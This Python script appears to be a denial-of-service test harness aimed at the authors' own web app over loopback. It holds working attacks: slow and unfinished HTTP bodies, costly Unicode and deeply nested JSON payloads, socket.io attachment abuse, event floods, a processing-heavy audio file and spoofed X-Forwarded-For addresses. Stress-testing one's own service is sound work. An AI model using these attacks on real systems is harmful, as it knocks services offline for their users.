"""Everything an attacker without rights can send to the product from one place, all at once: a process for ``abuse``.

Every attack goes on until its time is over, whatever the answers are. The websockets come from one IPv6 network, each
from another address of it, as they would from one household. Only loopback is reached.
"""

import asyncio
import json
import os
import sys
import time
import uuid
from collections.abc import Awaitable, Callable
from contextlib import suppress
from itertools import count
from pathlib import Path
from urllib.parse import urlsplit

import httpx
from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import WebSocketException
from websockets.typing import Origin

SOCKETS = 50
SLOW_BODIES = 100
UNFINISHED_BODIES = 100
SOUNDS = 6
MARKS = 15_000  # of each of two kinds: normalising them costs the square of their number
EMPTY_LISTS = 1_700_000  # 5.1 MB
JUNK = 900_000  # characters; the framework itself reads a million

# Made once: the attacker's own work takes processor from the product here, which it would not elsewhere.
_LISTS = b'{"email":[' + b"[]," * EMPTY_LISTS + b"[]]}"
_UNFINISHED = {"/api/drafts": b" " * 4_980_000, "/api/auth/login": b" " * 45_000}
_MISSING = 20_000  # bytes of each that never come

_NETWORK = "2001:db8:bad:1::"  # documentation addresses (RFC 3849)
_STATES = "reflex___state____state.voice_report___ui___access____access_state."
_GREET = f"{_STATES}voice_report___ui___session____session_state.greet"
_FAILURES = (OSError, WebSocketException, httpx.HTTPError, TimeoutError)
_numbers = count(1)


class Attack:
    """One attacker's run against one address, until a given time."""

    def __init__(self, url: str, seconds: float, cookie: str, sound: Path) -> None:
        self.url = url
        self.until = time.monotonic() + seconds
        self.cookie = cookie
        self.sound = sound.read_bytes()

    def is_going_on(self) -> bool:
        return time.monotonic() < self.until

    async def run(self, *names: str) -> None:
        """Run the attacks with these names, or all of them, at once."""
        times: dict[Callable[[], Awaitable[None]], int] = {
            self.long_names: 1,
            self.attachments: 1,
            self.junk_addresses: 5,
            self.nonsense: 2,
            self.flood: SOCKETS,
            self.slow_body: SLOW_BODIES,
            self.empty_lists: 1,
            self.unfinished_body: UNFINISHED_BODIES,
            self.hostile_sound: SOUNDS,
        }
        if unknown := set(names) - {attack.__name__ for attack in times}:
            raise ValueError(f"no such attack: {', '.join(sorted(unknown))}")
        chosen = [attack for attack in times if not names or attack.__name__ in names]
        repeated = [attack for attack in chosen for _ in range(times[attack])]
        with suppress(TimeoutError):
            async with asyncio.timeout(self.until - time.monotonic()):
                await asyncio.gather(*(self._again(each) for each in repeated))

    async def _again(self, attack: Callable[[], Awaitable[None]]) -> None:
        while self.is_going_on():
            with suppress(*_FAILURES):
                await attack()
            await asyncio.sleep(0.1)

    async def long_names(self) -> None:
        """Register with a first name of combining marks in the order that is slowest to normalise."""
        name = "a" + "\u0315" * MARKS + "\u0316" * MARKS
        email = f"niemand.{uuid.uuid4().hex[:12]}@zorg.example"
        body = {"email": email, "password": "Een-lang-wachtwoord-1!", "firstName": name, "lastName": "Nieuw"}
        async with self._client() as client:
            await client.post("/api/auth/register", json=body)

    async def empty_lists(self) -> None:
        """Register with very many empty lists as the address: parsing them blocks everybody else."""
        headers = {"Content-Type": "application/json"}
        async with self._client() as client:
            for path in ("/api/auth/register", "/api/drafts"):
                for cookie in ("", self.cookie):
                    await client.post(path, content=_LISTS, headers={**headers, "Cookie": cookie})

    async def attachments(self) -> None:
        """Announce ten thousand million attachments, and send a few."""
        async with self._socket() as socket:
            await socket.send('459999999999-/_event,["event",{"_placeholder":true,"num":0}]')
            for _ in range(50):
                await socket.send(b"x" * JUNK)

    async def junk_addresses(self) -> None:
        """Open a tab, let it store as much as it accepts, then leave: a huge text, then the longest address allowed."""
        for size in (JUNK, 3_900):
            with suppress(*_FAILURES):
                async with self._socket() as socket:
                    junk = {"junk": "j" * size} if size == JUNK else {"asPath": "/" + "j" * size}
                    await socket.send(_event(_GREET, {}, pathname="/", **junk))
                    await self._hear(socket)

    async def nonsense(self) -> None:
        """Send frames that only look like events: unknown handlers, wrong arguments, texts, endless JSON."""
        other = _GREET.removesuffix("greet") + "setvar"
        frames = [
            _event("state.no_such_handler", {}),
            _event(_GREET, {"no": "such argument"}),
            _event(other, {"var_name": "name", "value": "x" * 10_000}),
            "42/_event," + json.dumps(["event", "kanarie"]),
            "42/_event," + "[" * 10_000,
            "40/_event,{}",
        ]
        for frame in frames:
            with suppress(*_FAILURES):
                async with self._socket() as socket:
                    for _ in range(60):
                        await socket.send(frame)

    async def flood(self) -> None:
        """Send valid events as fast as one connection accepts them, and read the answers."""
        async with self._socket() as socket:
            reading = asyncio.ensure_future(self._hear(socket, for_ever=True))
            try:
                while self.is_going_on():
                    await socket.send(_event(_GREET, {}))
                    await asyncio.sleep(1 / 100)
            finally:
                reading.cancel()

    async def slow_body(self) -> None:
        """Announce a body and send one byte of it per second."""
        reader, writer = await self._begin("/api/auth/login", 4_000)
        try:
            while self.is_going_on() and not reader.at_eof():
                writer.write(b" ")
                await writer.drain()
                await asyncio.sleep(1)
        finally:
            writer.close()

    async def unfinished_body(self) -> None:
        """Send all but the end of a body, as large as a transcript and as a sign-in may be, and then nothing."""
        for path, body in _UNFINISHED.items():
            reader, writer = await self._begin(path, len(body) + _MISSING)
            try:
                writer.write(body)
                await writer.drain()
                async with asyncio.timeout(10):
                    await reader.read()
            except TimeoutError:
                pass  # this connection is being held: open the next
            finally:
                writer.close()

    async def _begin(self, path: str, size: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Announce a body of this many bytes."""
        at = urlsplit(self.url)
        reader, writer = await asyncio.open_connection(at.hostname, at.port)
        head = f"POST {path} HTTP/1.1\r\nHost: {at.netloc}\r\nOrigin: {self.url}\r\n"
        writer.write(f"{head}Content-Type: application/json\r\nContent-Length: {size}\r\n\r\n".encode())
        return reader, writer

    async def hostile_sound(self) -> None:
        """Send a small file that takes hours of work, from the attacker's own account."""
        async with self._client() as client:
            files = {"audio": ("a.flac", self.sound, "audio/flac")}
            data = {"dictationId": str(uuid.uuid4()), "segment": "0"}
            await client.post("/api/stt", files=files, data=data, headers={"Cookie": self.cookie})

    def _client(self) -> httpx.AsyncClient:
        headers = {"Origin": self.url, "X-Forwarded-For": "192.0.2.66"}
        return httpx.AsyncClient(base_url=self.url, headers=headers, timeout=60)

    def _socket(self) -> "_Visitor":
        return _Visitor(self.url)

    async def _hear(self, socket: ClientConnection, *, for_ever: bool = False) -> None:
        with suppress(TimeoutError):
            async with asyncio.timeout(None if for_ever else 2):
                async for frame in socket:
                    if frame == "2":
                        await socket.send("3")
                    elif not for_ever and str(frame).startswith("42"):
                        return


class _Visitor:
    """The connection of a visitor's page, connected to the namespace."""

    def __init__(self, url: str) -> None:
        self._url = url

    async def __aenter__(self) -> ClientConnection:
        address = f"{self._url.replace('http', 'ws', 1)}/_event/?EIO=4&transport=websocket&token={uuid.uuid4()}"
        forwarded = {"X-Forwarded-For": f"{_NETWORK}{next(_numbers):x}"}
        self._socket = await connect(
            address, origin=Origin(self._url), additional_headers=forwarded, compression=None, max_size=None
        )
        await self._socket.send("40/_event,")
        return self._socket

    async def __aexit__(self, *_error: object) -> None:
        await self._socket.close()


def _event(name: str, payload: dict, **router_data: str) -> str:
    at = router_data or {"pathname": "/", "asPath": "/"}
    return "42/_event," + json.dumps(["event", {"name": name, "payload": payload, "router_data": at}])


if __name__ == "__main__":
    os.nice(10)  # a real attacker would not use the server's processor
    _url, _seconds, _cookie, _sound, *_names = sys.argv[1:]
    asyncio.run(Attack(_url, float(_seconds), _cookie, Path(_sound)).run(*_names))
